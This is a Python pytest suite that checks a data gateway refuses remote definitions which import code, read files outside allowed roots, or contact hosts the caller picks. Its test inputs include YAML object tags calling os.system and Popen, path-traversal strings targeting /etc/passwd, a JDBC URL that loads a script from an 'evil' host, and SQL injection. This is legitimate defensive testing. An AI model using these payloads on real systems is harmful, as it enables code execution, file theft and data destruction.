"""A definition that comes over the network runs no code, reads no file and reaches no host of the caller's choice."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from tests.security import processes
from tests.security.processes import Running, create_key, tidegate, write_profile

CITY = """
streams:
  gps_taxi: {schema: {vid: string, speed: float64, time: timestamp}, event_time: time}
  mine_raw: {schema: {vid: string, speed: float64, time: timestamp}, event_time: time}
services:
  gps: {from: gps_taxi}
  inspected:
    from: gps_taxi
    pipeline: [{custom: {function: "os.path:join", schema: {vid: string}}}]
"""
OUTPUT = {"vid": "string"}
RAW = {"schema": {"vid": "string"}}


@dataclass(frozen=True)
class Place:
    """A gateway that requires keys, and the files around it."""

    running: Running
    folder: Path
    keys: dict[str, str]

    def client(self, who: str) -> httpx.Client:
        return self.running.client(self.keys[who])

    @property
    def canary(self) -> Path:
        """A file that exists once an attack has run code."""
        return self.folder / "canary"


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("trust")
    data = folder / "data"
    data.mkdir()
    (folder / "open").mkdir()
    (folder / "hers").mkdir()
    (folder / "open" / "cameras.csv").write_text("vid,road\nB1,A5\n")
    (folder / "hers" / "cameras.csv").write_text("vid,road\nB1,A5\n")
    (folder / "secret.csv").write_text("vid,secret\nB1,hunter2\n")
    (folder / "open" / "link.csv").symlink_to(folder / "secret.csv")
    (folder / "open" / "out").symlink_to(folder)
    os.mkfifo(folder / "open" / "pipe.csv")
    evil = f"from pathlib import Path\nPath({str(folder / 'canary')!r}).touch()\ndef f(batches): return batches\n"
    (folder / "evil_on_import.py").write_text(evil)
    profile = write_profile(
        folder,
        functions={"same": "evil_on_import:f"},
        roots=[str(folder / "open"), {"path": str(folder / "hers"), "for": ["weak"]}, str(data.parent / "data")],
        connections={
            "plant": {"mqtt": {"broker": "127.0.0.1:1", "username": "u", "password": "env:PLANT"}},
            "shared": {"mqtt": {"broker": "127.0.0.1:1"}, "for": ["weak"]},
            "warehouse": {"jdbc": {"url": "jdbc:postgresql://127.0.0.1:1/x", "driver": "org.postgresql.Driver"}},
        },
    )
    (folder / "city.yaml").write_text(CITY)
    applied = tidegate("apply", folder / "city.yaml", data=data)
    assert applied.returncode == 0, applied.stderr
    (data / "mask.key").write_text("secret of masks")
    scope = ("mine", "mine_raw", "gps_taxi")
    keys = {
        "weak": create_key(data, "weak", "provider", *scope),
        "admin": create_key(data, "root", "admin"),
        "reader": create_key(data, "reader", "consumer"),
    }
    # A gateway's import of a module would find it there.
    env = {"PYTHONPATH": f"{folder}:{os.environ.get('PYTHONPATH', '')}", "PLANT": "hunter2"}
    with processes.gateway(data, "--profile", profile, env=env) as running:
        yield Place(running, folder, keys)


def custom(function: str, **more: Any) -> dict[str, Any]:
    operator = {"custom": {"function": function, "schema": OUTPUT, **more}}
    return {"from": "mine_raw", "pipeline": [operator]}


def put(place: Place, who: str, definition: Any, what: str = "services/mine") -> httpx.Response:
    with place.client(who) as client:
        return client.put(f"/v1/{what}", content=json.dumps(definition))


def refusal(response: httpx.Response) -> str:
    assert response.status_code == 422, response.text
    detail: str = response.json()["detail"]
    return detail


def popen(canary: Path) -> dict[str, Any]:
    handler = {"()": "subprocess.Popen", "args": ["touch", str(canary)]}
    return {"log_config": {"version": 1, "handlers": {"x": handler}, "root": {"handlers": ["x"]}}}


# Code ------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["weak", "admin"])
@pytest.mark.parametrize("function", ["uvicorn:Config", "os:system", "evil_on_import:f", "builtins:exec", "same:f"])
def test_import_path_in_remote_definition_is_refused_without_an_import(place: Place, who: str, function: str) -> None:
    options = popen(place.canary) if function == "uvicorn:Config" else {"command": f"touch {place.canary}"}
    definition = custom(function, options=options)
    assert "is an import path" in refusal(put(place, who, definition))
    with place.client(who) as client:
        text = yaml.safe_dump({"services": {"mine": definition}})
        assert "is an import path" in refusal(client.post("/v1/apply", content=text))
        files = {"files": {"city.yaml": text}}
        assert "city.yaml:" in refusal(client.post("/v1/apply", content=json.dumps(files)))
    assert not place.canary.exists()


@pytest.mark.parametrize(
    "text",
    [
        # a name behind an anchor, behind a merge key, and behind a tag
        "x-a: &f 'evil_on_import:f'\nservices: {mine: {from: mine_raw, pipeline: [{custom: {function: *f, SCHEMA}}]}}",
        "x-a: &c {function: 'evil_on_import:f', SCHEMA}\n"
        "services: {mine: {from: mine_raw, pipeline: [{custom: {<<: *c}}]}}",
        "services: {mine: {from: mine_raw, pipeline: [{custom: {function: !!str evil_on_import:f, SCHEMA}}]}}",
    ],
)
def test_yaml_tricks_do_not_hide_an_import_path(place: Place, text: str) -> None:
    with place.client("weak") as client:
        answer = client.post("/v1/apply", content=text.replace("SCHEMA", "schema: {vid: string}"))
        put_alone = client.put(
            "/v1/services/mine",
            content="from: mine_raw\nx: &f {function: 'evil_on_import:f', schema: {vid: string}}\n"
            "pipeline: [{custom: {<<: *f}}]",
        )
    assert "is an import path" in refusal(answer)
    assert put_alone.status_code == 422
    assert not place.canary.exists()


@pytest.mark.parametrize(
    "text",
    [
        "services: {mine: !!python/object/apply:os.system ['touch CANARY']}",
        "services: {mine: {from: mine_raw, pipeline: [!!python/name:os.system ]}}",
        "!!python/object/new:subprocess.Popen {args: [[touch, CANARY]]}",
    ],
)
def test_yaml_tags_that_make_objects_are_refused(place: Place, text: str) -> None:
    with place.client("admin") as client:
        answer = client.post("/v1/apply", content=text.replace("CANARY", str(place.canary)))
    assert answer.status_code == 422
    assert not place.canary.exists()


def test_unregistered_function_is_refused_and_registered_one_is_taken_without_an_import(place: Place) -> None:
    refused = refusal(put(place, "weak", custom("sane")))
    assert "no function 'sane' is registered; did you mean 'same'?" in refused
    assert "functions: {sane: 'module:function'}" in refused
    taken = put(place, "weak", custom("same"))
    assert taken.status_code == 200, taken.text
    assert not place.canary.exists()


def test_definition_of_the_operator_with_an_import_path_can_not_be_changed_over_http(place: Place) -> None:
    with place.client("admin") as client:
        stored = client.get("/v1/services/inspected").json()["definition"]
    assert stored["pipeline"][0]["custom"]["function"] == "os.path:join"
    stored["description"] = "changed"
    assert "is an import path" in refusal(put(place, "admin", stored, "services/inspected"))
    stored["pipeline"] = []
    assert put(place, "admin", {**stored}, "services/inspected?force=true").status_code == 200
    origins = _origins(place)
    assert origins["inspected"] == "remote"
    assert origins["gps"] == "operator"
    # A file of the operator is trusted again, and says so in the registry.
    applied = tidegate("apply", place.folder / "city.yaml", "--force", data=place.running.data)
    assert applied.returncode == 0, applied.stderr
    assert _origins(place)["inspected"] == "operator"


def _origins(place: Place) -> dict[str, str]:
    with sqlite3.connect(place.running.data / "registry.sqlite") as database:
        return dict(database.execute("SELECT name, origin FROM definitions"))


@pytest.mark.parametrize(
    "expression",
    [
        "java_method('java.lang.Runtime', 'getRuntime')",
        "reflect('java.lang.System', 'getenv', 'PATH')",
        "try_reflect('java.lang.System', 'getProperty', 'user.home')",
        "input_file_name()",
        "current_user()",
        "vid) FROM x --",
        "`vid`",
        "(select 1)",
        "${env:PATH}",
    ],
)
def test_expression_calls_nothing_but_the_functions_of_the_language(place: Place, expression: str) -> None:
    project = {"from": "mine_raw", "pipeline": [{"project": {"x": expression}}]}
    assert "services.mine.pipeline[0].project" in refusal(put(place, "admin", project))
    where = {"from": "mine_raw", "pipeline": [{"filter": f"{expression} = 1"}]}
    assert "services.mine.pipeline[0].filter" in refusal(put(place, "admin", where))
    constrained = {"from": "mine_raw", "constraints": {"vid": f"= {expression}"}}
    assert put(place, "admin", constrained).status_code == 422


@pytest.mark.parametrize("where", [{"origin": "operator"}, {"trusted": True}, {"access": {"origin": "operator"}}])
def test_definition_does_not_state_its_own_origin(place: Place, where: dict[str, Any]) -> None:
    for path, body in (("services/mine", {"from": "mine_raw", **where}), ("streams/mine", {**RAW, **where})):
        detail = refusal(put(place, "admin", body, path))
        assert "unknown key" in detail, detail


@pytest.mark.parametrize("origin", ["?origin=operator", "?trusted=true", "?name=operator"])
def test_parameters_do_not_make_a_definition_trusted(place: Place, origin: str) -> None:
    definition = custom("evil_on_import:f")
    assert "is an import path" in refusal(put(place, "admin", definition, f"services/mine{origin}"))
    with place.client("admin") as client:
        text = json.dumps({"services": {"mine": definition}})
        assert "is an import path" in refusal(client.post(f"/v1/apply{origin}", content=text))
    assert not place.canary.exists()


def test_apply_with_a_url_is_not_trusted(place: Place) -> None:
    file = place.folder / "sent.yaml"
    file.write_text(yaml.safe_dump({"services": {"mine": custom("evil_on_import:f")}}))
    command = [sys.executable, "-m", "tidegate", "apply", str(file), "--url", place.running.url]
    said = subprocess.run(
        [*command, "--key", place.keys["admin"]], capture_output=True, text=True, timeout=60, check=False
    )
    assert said.returncode != 0
    assert "is an import path, which only a file of the operator may hold" in said.stderr
    assert not place.canary.exists()


@pytest.mark.parametrize("call", ["backtest", "explain", "status", "asyncapi.json"])
def test_definition_in_the_body_of_a_call_that_reads_is_not_run(place: Place, call: str) -> None:
    with place.client("admin") as client:
        body = json.dumps(custom("evil_on_import:f"))
        answer = client.request("GET", f"/v1/services/gps/{call}", content=body, params={"filter": "speed > 1"})
    assert answer.status_code < 500, answer.text
    assert not place.canary.exists()


# Files -----------------------------------------------------------------------


def forbidden_paths(place: Place) -> dict[str, str]:
    return {
        "passwd": "/etc/passwd",
        "mask key": str(place.running.data / "mask.key"),
        "registry": str(place.running.data / "registry.sqlite"),
        "pattern in the data folder": str(place.running.data / "*"),
        "pattern for it": str(place.running.data.parent / "dat[a]" / "mask.key"),
        "outside": str(place.folder / "secret.csv"),
        "symlink": str(place.folder / "open" / "link.csv"),
        "folder that is a symlink": str(place.folder / "open" / "out" / "secret.csv"),
        "pattern through a symlink": str(place.folder / "open" / "out" / "*.csv"),
        "dots": str(place.folder / "open" / ".." / "secret.csv"),
        "dots behind a pattern": str(place.folder / "open" / "*" / ".." / ".." / "secret.csv"),
        "root's own prefix": str(place.folder / "open") + "-not/x.csv",
        "relative": "open/cameras.csv",
        "file URL": f"file://{place.folder}/open/cameras.csv",
        "file URL without slashes": f"file:{place.folder}/open/cameras.csv",
        "hdfs": "hdfs://127.0.0.1/x.csv",
        "s3a": "s3a://bucket/x.csv",
        "jar": f"jar:file:{place.folder}/x.jar!/x.csv",
        "http": "http://127.0.0.1/x.csv",
        "escaped dots": str(place.folder / "open" / "%2e%2e" / "secret.csv").replace("open", "ope%6e"),
        "NUL": str(place.folder / "open" / "a\0b.csv"),
    }


@pytest.mark.parametrize("who", ["weak", "admin"])
def test_files_source_outside_the_roots_is_refused(place: Place, who: str) -> None:
    for what, path in forbidden_paths(place).items():
        for source in ({"files": path}, {"files": {"path": path, "format": "csv"}}):
            answer = put(place, who, {**RAW, "source": source}, "streams/mine")
            assert answer.status_code == 422, (what, answer.text)
            assert "streams.mine.source" in answer.json()["detail"], what


@pytest.mark.parametrize("who", ["weak", "admin"])
@pytest.mark.parametrize("format_", ["csv", "parquet"])
def test_enrich_table_outside_the_roots_is_refused_before_it_is_read(place: Place, who: str, format_: str) -> None:
    for what, path in forbidden_paths(place).items():
        for schema in ({}, {"schema": {"vid": "string", "secret": "string?"}}):
            operator = {"enrich": {"table": path, "format": format_, "on": "vid", **schema}}
            answer = put(place, who, {"from": "mine_raw", "pipeline": [operator]})
            assert answer.status_code == 422, (what, answer.text)
            assert "hunter2" not in answer.text
            assert "secret of masks" not in answer.text
            assert "root:x" not in answer.text


def test_pipe_as_a_table_does_not_hold_the_gateway(place: Place) -> None:
    operator = {"enrich": {"table": str(place.folder / "open" / "pipe.csv"), "on": "vid"}}
    assert "not a regular file" in refusal(put(place, "admin", {"from": "mine_raw", "pipeline": [operator]}))


def test_roots_are_for_admins_and_those_they_name(place: Place) -> None:
    theirs = {**RAW, "source": {"files": str(place.folder / "open" / "*.csv")}}
    hers = {**RAW, "source": {"files": str(place.folder / "hers" / "*.csv")}}
    assert "open to you; the operator opens some under roots" in refusal(put(place, "weak", theirs, "streams/mine"))
    assert put(place, "weak", hers, "streams/mine").status_code == 200
    assert put(place, "admin", theirs, "streams/mine").status_code == 200
    with place.client("admin") as client:
        assert client.delete("/v1/streams/mine").status_code == 204


def test_table_below_a_root_gets_its_schema_written_down(place: Place) -> None:
    operator = {"enrich": {"table": str(place.folder / "hers" / "cameras.csv"), "on": "vid"}}
    answer = put(place, "weak", {"from": "mine_raw", "pipeline": [operator]})
    assert answer.status_code == 200, answer.text
    table = answer.json()["definition"]["pipeline"][0]["enrich"]
    assert table["schema"] == {"vid": "string?", "road": "string?"}


def test_demo_source_is_for_admins(place: Place) -> None:
    demo = {**RAW, "source": {"demo": "gps"}}
    assert "a demo source is for admins" in refusal(put(place, "weak", demo, "streams/mine"))


# Secrets and connections -----------------------------------------------------


@pytest.mark.parametrize("who", ["weak", "admin"])
@pytest.mark.parametrize(
    "source",
    [
        {"mqtt": "t"},
        {"kafka": "t"},
        {"mqtt": {"topic": "t", "broker": "attacker.example:1883"}},
        {"mqtt": {"topic": "t", "broker": "127.0.0.1", "username": "x", "password_env": "PATH"}},
        {"kafka": {"topic": "t", "brokers": "attacker.example:9092"}},
    ],
)
def test_source_with_a_host_of_its_own_is_refused(place: Place, who: str, source: dict[str, Any]) -> None:
    detail = refusal(put(place, who, {**RAW, "source": source}, "streams/mine"))
    assert "can't name a host: expected {connection: NAME, ...}" in detail
    assert "there are: " + ("none" if "kafka" in source else "shared" if who == "weak" else "plant, shared") in detail


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ({"mqtt": {"topic": "t", "connection": "plnt"}}, "no mqtt connection 'plnt' is open to you"),
        ({"kafka": {"topic": "t", "connection": "plant"}}, "no kafka connection 'plant' is open to you"),
        ({"mqtt": {"topic": "t", "connection": "plant", "broker": "evil"}}, "expected broker or a connection"),
        ({"mqtt": {"topic": "t", "connection": "plant", "password_env": "PATH"}}, "expected password_env or a conn"),
        ({"kafka": {"topic": "t", "connection": "plant", "brokers": "evil"}}, "expected brokers or a connection"),
    ],
)
def test_connection_has_the_right_kind_and_nothing_beside_it(
    place: Place, source: dict[str, Any], message: str
) -> None:
    assert message in refusal(put(place, "admin", {**RAW, "source": source}, "streams/mine"))


def test_connections_are_for_admins_and_those_they_name(place: Place) -> None:
    shared = {**RAW, "source": {"mqtt": {"topic": "t", "connection": "shared"}}}
    plant = {**RAW, "source": {"mqtt": {"topic": "t", "connection": "plant"}}}
    assert "no mqtt connection 'plant' is open to you" in refusal(put(place, "weak", plant, "streams/mine"))
    assert put(place, "weak", shared, "streams/mine").status_code == 200
    answer = put(place, "admin", plant, "streams/mine")
    assert answer.status_code == 200, answer.text
    assert answer.json()["definition"]["source"] == {"mqtt": {"topic": "t", "connection": "plant"}}
    assert "hunter2" not in answer.text
    with place.client("admin") as client:
        assert client.delete("/v1/streams/mine").status_code == 204


@pytest.mark.parametrize(
    ("table", "message"),
    [
        (
            {"jdbc": {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "table": "t"}},
            "can't name a host",
        ),
        ({"jdbc": {"url": "jdbc:postgresql://db/city?user=a&password=hunter2", "table": "t"}}, "connections"),
        (
            {"table": {"connection": "warehouse", "table": "(SELECT pg_read_file('/etc/passwd') x) t"}},
            "name of a table",
        ),
        ({"table": {"connection": "warehouse", "table": "t; DROP TABLE t"}}, "expected the name of a table"),
        ({"table": {"connection": "warehouse", "table": "t", "driver": "evil.Driver"}}, "unknown key 'driver'"),
        ({"table": {"connection": "warehouse"}}, "table"),
        ({"table": {"connection": "plant", "table": "t"}}, "no jdbc connection 'plant'"),
    ],
)
def test_database_of_the_callers_choice_is_refused(place: Place, table: dict[str, Any], message: str) -> None:
    operator = {"enrich": {**table, "on": "vid", "schema": {"vid": "string"}}}
    answer = put(place, "admin", {"from": "mine_raw", "pipeline": [operator]})
    assert message in refusal(answer)
    assert "hunter2" not in answer.text


@pytest.mark.parametrize(
    "part",
    [
        {"streams": {"s": {**RAW, "source": {"mqtt": {"topic": "t", "broker": "u:hunter2@host"}}}}},
        {"streams": {"s": {**RAW, "source": {"kafka": {"topic": "t", "brokers": "kafka://u:hunter2@host:1"}}}}},
        {"services": {"s": {"from": "gps", "pipeline": [{"custom": {"function": "os:getcwd", "schema": OUTPUT,
            "options": {"targets": ["https://u:hunter2@host/x"]}}}]}}},
        {"services": {"s": {"from": "gps", "pipeline": [{"custom": {"function": "os:getcwd", "schema": OUTPUT,
            "options": {"sinks": [{"dbPassword": "hunter2"}]}}}]}}},
        {"services": {"s": {"from": "gps", "pipeline": [{"enrich": {"on": "vid", "schema": {"vid": "string"},
            "jdbc": {"url": "jdbc:sqlserver://db;user=a;pass%77ord=hunter2", "table": "t"}}}]}}},
    ],
)  # fmt: skip
def test_password_in_a_file_of_the_operator_is_refused(place: Place, part: dict[str, Any]) -> None:
    file = place.folder / "secret.yaml"
    file.write_text(yaml.safe_dump(part))
    for command in ("apply", "validate"):
        data = place.running.data
        said = tidegate(command, file, data=data) if command == "apply" else _validate(file)
        assert said.returncode == 2, said.stdout
        remedy = "give host and secret a name under connections in the profile"
        assert remedy in said.stderr or "let the function read it from a file or the environment" in said.stderr
        assert "hunter2" not in said.stdout + said.stderr


def _validate(*args: object) -> Any:
    command = [sys.executable, "-m", "tidegate", "validate", *map(str, args)]
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)


def test_validate_names_the_profile_key_that_is_missing(place: Place) -> None:
    file = place.folder / "named.yaml"
    file.write_text(
        textwrap.dedent("""
        streams: {s: {schema: {vid: string}, source: {mqtt: {topic: t, connection: plant}}}}
        services: {t: {from: s, pipeline: [{custom: {function: same, schema: {vid: string}}}]}}
        """)
    )
    without = _validate(file)
    assert "functions: {same: 'module:function'}" in without.stderr
    assert "connections: {plant: {mqtt: {...}}}" in without.stderr
    with_profile = _validate(file, "--profile", place.folder / "profile.yaml")
    assert with_profile.returncode == 0, with_profile.stderr
